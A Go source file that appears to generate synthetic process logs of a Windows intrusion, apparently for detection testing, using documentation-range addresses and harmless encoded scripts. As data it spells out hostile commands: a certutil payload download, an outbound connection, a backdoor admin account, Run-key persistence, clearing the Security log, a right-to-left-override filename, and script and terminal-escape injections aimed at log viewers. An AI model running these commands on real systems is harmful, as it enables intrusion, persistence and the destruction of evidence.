package main

import (
	"encoding/base64"
	"encoding/binary"
	"unicode/utf16"
)

// What an intruder does on the Windows hosts: little, and worth finding. Nothing of it works: the
// addresses are those reserved for documentation, and the hidden script prints one sentence.

// encoded is a script as powershell -EncodedCommand takes it: UTF-16 in base 64.
func encoded(script string) string {
	var b []byte
	for _, unit := range utf16.Encode([]rune(script)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return base64.StdEncoding.EncodeToString(b)
}

var (
	// lateral is the first step: a command that came from another machine through WMI, as the
	// output file in the hidden share shows. It makes a task.
	lateral = run(system32+`wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`,
		run("cmd.exe", `cmd.exe /Q /c schtasks /create /tn "OneDrive Prüfung" /tr C:\Users\Public\prüfung.cmd /sc once /st 02:13 /ru svc_backup 1> \\127.0.0.1\ADMIN$\__1710123{n}.{n} 2>&1`,
			console, run("schtasks.exe", `schtasks  /create /tn "OneDrive Prüfung" /tr C:\Users\Public\prüfung.cmd /sc once /st 02:13 /ru svc_backup`)).as(backup)).as(networkService)

	// task is what that task runs, under the account of the backups.
	task = script(`C:\Users\Public\prüfung.cmd`,
		run("whoami.exe", `whoami  /all`),
		shell(`-nop -w hidden -enc `+encoded(`Write-Output "A sample log: nothing here has ever run."`),
			run("certutil.exe", `"C:\Windows\system32\certutil.exe" -urlcache -split -f http://198.51.100.23/update.dat C:\ProgramData\svhost.exe`),
			// a right-to-left override makes the name end in "exe.docx" on a careless screen
			run("C:\\ProgramData\\Rechnung_\u202excod.exe", "\"C:\\ProgramData\\Rechnung_\u202excod.exe\" -k 443 203.0.113.77",
				run("cmd.exe", `cmd.exe /c net group "Domain Admins" /domain`,
					run("net.exe", `net  group "Domain Admins" /domain`,
						run("net1.exe", `C:\Windows\system32\net1  group "Domain Admins" /domain`))),
				run("cmd.exe", `cmd.exe /c net user support$ Winter2024! /add`,
					run("net.exe", `net  user support$ Winter2024! /add`,
						run("net1.exe", `C:\Windows\system32\net1  user support$ Winter2024! /add`))),
				run("reg.exe", `reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v OneDrive /d C:\ProgramData\svhost.exe /f`),
				// meant for whoever reads the log in a browser or on a terminal
				run("cmd.exe", "cmd.exe /c echo <script>alert(1)</script> & echo \x1b[2J\x1b[31mnothing to see\x1b[0m"),
				run("wevtutil.exe", `wevtutil cl Security`)))).as(backup)

	// phishing is a letter that a person opened.
	phishing = run(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jörg.müller\Downloads\Rechnung März.docm"`,
		run("cmd.exe", `cmd.exe /c powershell -w 1 -enc `+encoded(`Write-Output "A sample log."`),
			console, shell(`-w 1 -enc `+encoded(`Write-Output "A sample log."`),
				run("certutil.exe", `certutil -decode C:\Users\Public\ü.txt C:\Users\Public\ü.exe`),
				run("whoami.exe", `whoami  /groups`))))
)
